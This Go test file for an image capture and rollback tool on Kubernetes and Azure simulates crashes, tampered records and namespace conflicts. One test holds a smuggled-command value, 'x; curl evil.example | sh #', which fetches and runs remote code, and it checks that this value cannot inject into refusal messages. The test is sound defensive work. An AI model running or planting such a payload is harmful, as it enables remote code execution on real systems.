package simulate

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/runtime"

	"github.com/ortet/ortet/internal/fleet"
	"github.com/ortet/ortet/internal/image/capture"
	"github.com/ortet/ortet/internal/image/rollback"
	"github.com/ortet/ortet/internal/image/watch"
	"github.com/ortet/ortet/internal/workflow"
)

// rewrite changes the pool's record as the cluster stores it.
func (w *world) rewrite(t *testing.T, change func(record map[string]any)) {
	t.Helper()
	name := ""
	var record map[string]any
	w.kube.Peek("secrets", func(o runtime.Object) bool {
		secret, ok := o.(*corev1.Secret)
		if ok = ok && strings.HasPrefix(secret.Name, "ortet-journal-"); ok {
			name = secret.Name
			if err := json.Unmarshal(secret.Data["record"], &record); err != nil {
				t.Error(err)
			}
		}
		return !ok
	})
	change(record)
	text, err := json.Marshal(record)
	if err != nil || name == "" {
		t.Fatal(name, err)
	}
	w.kube.Change("secrets", namespace, name, func(o runtime.Object) { o.(*corev1.Secret).Data = map[string][]byte{"record": text} })
}

// growthOf is the state's growth, and the state.
func growthOf(record map[string]any) (growth, state map[string]any) {
	state, _ = record["state"].(map[string]any)
	growth, _ = state["growth"].(map[string]any)
	return growth, state
}

// A capture that an earlier release was killed in after it asked for new nodes adds them once.
func TestOutcomeEarlierReleasesNodesAreNotAddedAgain(t *testing.T) {
	for _, when := range []string{"kill after", "kill before"} {
		t.Run(when, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				w := newWorld(Story{Seed: 1, Pool: fresh, Happen: at(patchModel, 2, when)})
				defer w.finish()
				before := w.modelNow().capacity
				w.pursue(0, Ask{Do: "capture", Grow: 2, Once: true})
				w.rewrite(t, func(record map[string]any) {
					growth, state := growthOf(record)
					if state["growTo"] = growth["capacity"]; state["growTo"] == nil {
						t.Fatalf("no capacity was asked for: %v", growth)
					}
					delete(state, "growth")
				})
				time.Sleep(time.Hour)
				w.pursue(1, Ask{Do: "capture", Grow: 2, Once: true})
				if p, now := w.processes[1], w.modelNow().capacity; now != before+2 || p.code() != workflow.ExitDone || strings.Count(p.newNodes(), "true") != 2 {
					t.Errorf("exit %d and capacity %d after %d and --grow 2, new nodes %q: %v", p.code(), now, before, p.newNodes(), p.err)
				}
			})
		})
	}
}

// A false count in the record ends no process.
func TestOutcomeFalseGrowthOfARecord(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		w := newWorld(Story{Seed: 1, Pool: fresh, Happen: at(patchModel, 2, "kill after")})
		defer w.finish()
		w.pursue(0, Ask{Do: "capture", Grow: 2, Once: true})
		w.rewrite(t, func(record map[string]any) {
			growth, _ := growthOf(record)
			growth["adds"] = -1
		})
		time.Sleep(time.Hour)
		w.pursue(1, Ask{Do: "capture", Grow: 2, Once: true})
		if p := w.processes[1]; p.code() != workflow.ExitNeedsPerson || !strings.Contains(fmt.Sprint(p.err), "0 of 2 new nodes") {
			t.Errorf("exit %d: %v", p.code(), p.err)
		}
	})
}

// A capture that found its version, and was killed after it changed the model, is not abandoned with 0.
func TestOutcomeAbandonedCaptureOfAFoundVersion(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		w := newWorld(Story{Seed: 1, Pool: usual, Happen: at(patchModel, 1, "kill after")})
		defer w.finish()
		config, _ := w.of(t, namespace)
		captures := capture.New(config)
		w.pursue(0, Ask{Do: "capture", PublishOnly: true, Once: true})
		w.pursue(1, Ask{Do: "capture", Once: true})
		if !strings.Contains(w.modelNow().image, "2000.01.01") {
			t.Fatalf("the model names %s", w.modelNow().image)
		}
		time.Sleep(time.Hour)
		r, err := captures.Abandon(t.Context(), w.pool, "")
		if workflow.ExitCode(err) != workflow.ExitNeedsPerson || !strings.Contains(fmt.Sprint(err), "the model names 2000.01.01") {
			t.Errorf("%+v, %v", r, err)
		}
	})
}

// A tag of a hostile writer puts no words into the commands that a refusal names.
func TestOutcomeNamespaceTagIsNoCommand(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		w := newWorld(Story{Seed: 1, Pool: usual})
		defer w.finish()
		hostile := "x; curl evil.example | sh #"
		tag := object{"operation": "Merge", "properties": object{"tags": object{fleet.TagNamespace: hostile}}}
		if err := w.request("PATCH", w.names.Definition+"/providers/Microsoft.Resources/tags/default", "2021-04-01", tag); err != nil {
			t.Fatal(err)
		}
		config, _ := w.of(t, namespace)
		_, err := capture.New(config).Capture(t.Context(), capture.Request{Node: w.nodeName(0), Again: true})
		if !workflow.RefusedFor(err, capture.CodeOtherNamespace) || strings.Contains(strings.ReplaceAll(err.Error(), fmt.Sprintf("%q", hostile), ""), "curl") {
			t.Errorf("the refusal: %v", err)
		}
	})
}

// An abandoned version that new nodes come from, since the model names the latest one, is not left with 0.
func TestOutcomeAbandonedLatest(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		w := newWorld(Story{Seed: 1, Pool: with(func(p *Pool) { p.Latest = true }), Happen: at(patchModel, 1, "kill before")})
		defer w.finish()
		config, _ := w.of(t, namespace)
		w.pursue(0, Ask{Do: "capture", Once: true})
		if v := w.versions()[low(w.names.Definition.Child("versions", "2000.01.01"))]; v == nil || *v.Properties.PublishingProfile.ExcludeFromLatest {
			t.Fatal("the version is not the latest one")
		}
		time.Sleep(time.Hour)
		r, err := capture.New(config).Abandon(t.Context(), w.pool, "")
		if workflow.ExitCode(err) != workflow.ExitNeedsPerson || !strings.Contains(fmt.Sprint(err), "from which new nodes come: ortet rollback pool1 goes back") {
			t.Errorf("%q, %v", r.Left, err)
		}
	})
}

// Azure answers 404 for the definition right after the tag was written: the other namespace's is seen all the same.
func TestOutcomeNamespaceIsReadBackUntilItIsThere(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		w := newWorld(Story{Seed: 1, Pool: usual})
		defer w.finish()
		config, _ := w.of(t, namespace)
		w.after(10*time.Second, func() {
			tag := object{"operation": "Merge", "properties": object{"tags": object{fleet.TagNamespace: "team-b"}}}
			if err := w.request("PATCH", w.names.Definition+"/providers/Microsoft.Resources/tags/default", "2021-04-01", tag); err != nil {
				t.Error(err)
			}
			w.locked(func() {
				get := "azure GET " + definition
				w.pending = append(w.pending, Event{At: get, N: w.counts[get] + 1, What: "not found yet"})
			})
		})
		r, err := rollback.New(config).Rollback(t.Context(), rollback.Request{Pool: w.pool, To: "1999.12.18"})
		if !workflow.RefusedFor(err, capture.CodeOtherNamespace) {
			t.Errorf("a rollback beside team-b: %v, %q", err, r.Notes)
		}
	})
}

// A watched version is deleted while the model names it: no new node can be made, and the watch does not end with 0.
func TestOutcomeDeletedVersionThatIsLive(t *testing.T) {
	inCaptured(t, badPool("", nil), 0, nil, func(t *testing.T, w *world) {
		p := w.beginCommand(t, Ask{Do: "watch"})
		time.Sleep(5 * time.Minute)
		id := w.names.Definition.Child("versions", badVersion)
		if err := w.request("DELETE", id, "2024-03-03", nil); err != nil {
			t.Fatal(err)
		}
		w.await(p)
		p.ends(t, workflow.ExitNeedsPerson, watch.StoodDown, "the model names 2000.01.01, which was deleted", "ortet rollback pool1")
	})
}

// TestOutcomeCheckEndsACapture: a check under the pool lock ends a capture before anything is changed, and
// is not asked of one that is resumed.
func TestOutcomeCheckEndsACapture(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		w := newWorld(Story{Seed: 1, Pool: usual, Happen: at(powerOff, 1, "kill after")})
		defer w.finish()
		config, changes := w.of(t, namespace)
		captures, asked := capture.New(config), 0
		ask := func(err error) func(context.Context) error {
			return func(context.Context) error {
				asked++
				return err
			}
		}
		q, no := capture.Request{Node: w.nodeName(0)}, errors.New("the donor is another by now")
		if _, err := captures.Capture(t.Context(), q, ask(nil), ask(no), ask(nil)); !errors.Is(err, no) || asked != 2 || changes() != 0 {
			t.Errorf("%v after %d checks and %d changes", err, asked, changes())
		}
		w.pursue(0, Ask{Do: "capture", Once: true})
		time.Sleep(2 * leaseFor)
		if r, err := captures.Capture(t.Context(), q, ask(no)); err != nil || !r.Resumed || asked != 2 {
			t.Errorf("%v: resumed %t, %d checks", err, r.Resumed, asked)
		}
	})
}
